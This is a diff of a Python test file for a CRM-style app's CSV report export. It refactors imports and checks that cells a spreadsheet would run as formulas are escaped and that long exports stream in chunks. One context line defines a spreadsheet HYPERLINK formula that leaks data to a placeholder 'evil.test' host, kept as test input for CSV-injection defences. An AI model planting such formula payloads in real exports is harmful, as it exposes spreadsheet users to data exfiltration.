@@ -24,8 +24,10 @@ from datetime import datetime
 
 import pytest
 
-from coretrack import reports
 from coretrack.models import AccessEvent, Account, Contact, Email, Lead, Recipient, User
+from coretrack.reports.catalog import REPORTS
+from coretrack.reports.export import csv_cell, csv_lines
+from coretrack.reports.filters import parse_filters
 
 HYPERLINK = '=HYPERLINK("http://evil.test/?leak","Click")'
 
@@ -425,7 +427,7 @@ def test_the_csv_link_on_a_page_carries_its_filters(staff, data):
     ("Smith - Jones", "Smith - Jones"), ("Q3 = good", "Q3 = good"), ("ann@example.test", "ann@example.test"),
 ])
 def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed_with_a_quote(value, cell):
-    assert reports.csv_cell(value) == cell
+    assert csv_cell(value) == cell
 
 
 FORMULA_STARTS = ("=", "+", "-", "@")
@@ -455,8 +457,8 @@ def test_every_csv_cell_is_quoted_and_no_part_a_spreadsheet_might_split_off_star
 
 
 def test_a_long_csv_is_streamed_in_chunks_with_every_row(app, data, db):
-    report = reports.REPORTS["recipients"]
-    chunks = list(reports.csv_lines(app.Session, report, reports.parse_filters(report, {}), chunk_rows=3))
+    report = REPORTS["recipients"]
+    chunks = list(csv_lines(app.Session, report, parse_filters({}, report=report), chunk_rows=3))
     assert len(chunks) == 3  # rows 1-3, 4-6, then 7-8
     assert b"".join(chunks).count(b"\r\n") == 9
 
